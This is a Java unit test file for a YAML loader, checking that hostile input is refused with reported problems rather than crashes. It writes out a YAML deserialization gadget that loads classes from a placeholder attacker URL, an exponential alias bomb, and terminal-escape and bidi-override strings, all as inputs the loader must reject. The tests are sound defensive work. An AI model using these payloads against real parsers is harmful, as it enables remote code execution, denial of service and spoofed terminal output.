package io.github.peelkit.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;
import static org.quicktheories.generators.SourceDSL.strings;

import io.github.peelkit.check.Code;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Input meant to hurt: it must be refused with problems, never by an exception, a stack overflow, an
 * out-of-memory error or a hang.
 */
class HostileInputTest {
  private static List<Code> codes(LoadResult r) {
    return r.problems().stream().map(Problem::code).distinct().toList();
  }

  @Test
  void deepFlowNestingStopsAtTheDepthLimit() {
    String text = ("[".repeat(1_000) + "\n").repeat(150) + ("]".repeat(1_000) + "\n").repeat(150);
    LoadResult r = Yaml.read(text);
    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(r));
    assertTrue(r.problems().get(0).message().startsWith("nesting deeper than the limit of 64 levels"));
  }

  @Test
  void deepBlockNestingStopsAtTheDepthLimit() {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < 5_000; i++) {
      b.append(" ".repeat(i)).append("a:\n");
    }
    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(Yaml.read(b.toString())));
  }

  @Test
  void anAliasBombIsRefusedWithoutExpandingAnything() {
    StringBuilder b = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 1; i < 40; i++) {
      b.append("a").append(i).append(": &a").append(i).append(" [");
      for (int k = 0; k < 9; k++) {
        b.append(k == 0 ? "" : ", ").append("*a").append(i - 1);
      }
      b.append("]\n");
    }
    LoadResult r = Yaml.read(b.toString());
    assertEquals(List.of(FileCode.UNSUPPORTED_YAML_FEATURE, FileCode.LIMIT_EXCEEDED), codes(r));
    assertTrue(r.problems().size() <= Limits.defaults().maxProblems() + 1);
  }

  @Test
  void aLanguageTagInstantiatesNothing() {
    String text =
        Yaml.doc("Framework", "f")
            + "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://attacker.invalid/\"]]]]\n";
    LoadResult r = Yaml.read(text);
    assertEquals(List.of(FileCode.UNSUPPORTED_YAML_FEATURE), codes(r));
    assertFalse(r.catalog().frameworks().containsKey("f"));
  }

  @Test
  void manyDocumentsStopAtTheLimit() {
    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(Yaml.read("---\n~\n".repeat(2_000))).subList(1, 2));
  }

  @Test
  void binaryJunkIsRefusedAsMalformed(@TempDir Path dir) throws IOException {
    byte[] junk = new byte[64 * 1024];
    new Random(20221014L).nextBytes(junk);
    Path file = Files.write(dir.resolve("junk.yaml"), junk);
    assertEquals(List.of(FileCode.MALFORMED_YAML), codes(YamlReader.standard().read(file)));
  }

  @Test
  void anyBytesGiveProblemsNotExceptions(@TempDir Path dir) {
    Path file = dir.resolve("any.yaml");
    qt().withExamples(300)
        .forAll(lists().of(integers().between(0, 255)).ofSizeBetween(0, 400))
        .checkAssert(
            bytes -> {
              byte[] b = new byte[bytes.size()];
              for (int i = 0; i < b.length; i++) {
                b[i] = (byte) (int) bytes.get(i);
              }
              try {
                Files.write(file, b);
              } catch (IOException e) {
                throw new AssertionError(e);
              }
              LoadResult r = YamlReader.standard().read(file);
              assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
            });
  }

  @Test
  void anyTextMadeOfYamlPunctuationGivesProblemsNotExceptions() {
    String alphabet = "ab:- \n\t[]{},&*!|>'\"%@`#?~0.e+<=\\";
    qt().withExamples(2_000)
        .forAll(lists().of(integers().between(0, alphabet.length() - 1)).ofSizeBetween(0, 120))
        .checkAssert(
            picks -> {
              StringBuilder b = new StringBuilder();
              picks.forEach(i -> b.append(alphabet.charAt(i)));
              LoadResult r = YamlReader.standard().read("fuzz.yaml", b.toString());
              assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
            });
  }

  @Test
  void anyTextInsideAValidDocumentGivesProblemsNotExceptions() {
    qt().withExamples(1_000)
        .forAll(strings().allPossible().ofLengthBetween(0, 40), strings().basicLatinAlphabet().ofLengthBetween(0, 40))
        .checkAssert(
            (any, latin) -> {
              for (String filler : List.of(any, latin)) {
                String text =
                    Yaml.essex(
                        "  - area: " + filler + "\n    grade: " + filler + "\n    extensions: {k: " + filler + "}\n");
                LoadResult r = YamlReader.standard().read("fuzz.yaml", text);
                assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
              }
            });
  }

  @Test
  void mutatedRealFilesGiveProblemsNotExceptions() throws IOException {
    List<String> sources = new java.util.ArrayList<>();
    sources.add(Files.readString(Path.of("src/test/resources/corpus/valid/spec-example.yaml")));
    sources.add(Files.readString(Path.of("src/test/resources/corpus/valid/assessment-full.yaml")));
    try (java.util.stream.Stream<Path> s = Files.list(Path.of("../examples/data/essex"))) {
      for (Path p : s.sorted().toList()) {
        sources.add(Files.readString(p));
      }
    }
    String[] splices = {"", "~", "null", "- ", ": ", "{", "]", "&a ", "*a", "!!str ", "<<: ", "0x10", "'", "\"", "\t", "\n---\n", "  ", "\n"};
    qt().withExamples(400)
        .forAll(integers().between(0, sources.size() - 1), lists().of(integers().allPositive()).ofSize(8))
        .checkAssert(
            (which, picks) -> {
              List<String> lines = new java.util.ArrayList<>(sources.get(which).lines().toList());
              for (int k = 0; k + 1 < picks.size(); k += 2) {
                int line = picks.get(k) % lines.size();
                String text = lines.get(line);
                int at = text.isEmpty() ? 0 : picks.get(k + 1) % text.length();
                switch (picks.get(k + 1) % 4) {
                  case 0:
                    lines.remove(line);
                    break;
                  case 1:
                    lines.add(line, text);
                    break;
                  default:
                    lines.set(line, text.substring(0, at) + splices[picks.get(k) % splices.length] + text.substring(at));
                }
                if (lines.isEmpty()) {
                  lines.add("");
                }
              }
              LoadResult r = YamlReader.standard().read("mutant.yaml", String.join("\n", lines));
              assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
              ProblemPrinter.json(r.problems());
            });
  }

  @Test
  void controlCharactersAndLoneSurrogatesInATextAreRefused() {
    assertEquals(List.of(FileCode.MALFORMED_YAML), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\u0000b\n")));
    // In every style: the loader then looks for one only where an escape can make it, in a double-quoted text.
    for (String written : List.of("a\uD800b", "'a\uDC00b'", "\"a\uD800b\"", "|\n  a\uD800b", "{'\uD800': 1}")) {
      assertEquals(List.of(FileCode.MALFORMED_YAML), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: " + written + "\n")), written);
    }
  }

  @Test
  void aLoneSurrogateFromAnEscapeIsRefusedRatherThanLoadedAndLostOnWrite() {
    assertEquals(
        List.of(
            "t.yaml:4:7: error[PK006]: name: text holds U+D800, half of a UTF-16 surrogate pair, on its own: it is not a"
                + " Unicode character; write the character itself, or one escape of its code point such as \\U0001F693"),
        Yaml.lines(Yaml.doc("Framework", "f") + "name: \"a\\uD800b\"\n"));
    assertEquals(
        List.of(
            "t.yaml:5:14: error[PK006]: extensions.\\uDC00: text holds U+DC00, half of a UTF-16 surrogate pair, on its own:"
                + " it is not a Unicode character; write the character itself, or one escape of its code point such as"
                + " \\U0001F693"),
        Yaml.lines(Yaml.doc("Framework", "f") + "name: F\nextensions: {\"\\uDC00\": 1}\n"));
    // A pair written as two escapes is one character, and reads back as it.
    LoadResult pair = Yaml.read(Yaml.doc("Framework", "f") + "name: \"\\uD83D\\uDE93\"\n");
    assertEquals(List.of(), pair.problems());
    assertEquals("\uD83D\uDE93", pair.catalog().frameworks().get("f").name());
  }

  @Test
  void controlCharactersFromEscapesNeverReachTheTerminalRaw() {
    String text = Yaml.essex("  - area: \"\\e]0;owned\\a\\e[2J\"\n    grade: \"goo\\u202Ed\\nnext\"\n");
    List<String> lines = Yaml.lines(text);
    String areas =
        "victim-service-assessment, crime-data-integrity, fairness-and-respect, preventing-crime, responding-to-the-public,"
            + " investigating-crime, protecting-vulnerable-people, managing-offenders, serious-organised-crime, workforce,"
            + " vetting-and-counter-corruption, value-for-money";
    assertEquals(
        List.of(
            "t.yaml:9:11: error[PK008]: judgments[0].area: unknown area '\\e]0;owned\\u0007\\e[2J' in framework"
                + " peel-2021-22; valid values: " + areas,
            "t.yaml:10:12: error[PK008]: judgments[0].grade: unknown grade 'goo\\u202Ed\\nnext' in scale peel-2021; valid"
                + " values: outstanding, good, adequate, requires-improvement, inadequate"),
        lines);
    for (String line : lines) {
      assertTrue(line.codePoints().allMatch(c -> c >= 0x20 && c != 0x7F && c != 0x202E), line);
    }
  }

  @Test
  void aHugeFlowSequenceStopsAtTheNodeLimit() {
    String text = "[" + "a,\n".repeat(300_000) + "a]\n";
    assertTrue(StandardCharsets.UTF_8.encode(text).limit() < Limits.defaults().maxFileBytes());
    LoadResult r = Yaml.read(text);
    assertEquals(List.of(FileCode.LIMIT_EXCEEDED), codes(r));
    assertTrue(r.problems().get(0).message().startsWith("more than 250000 values in the file"));
  }
}
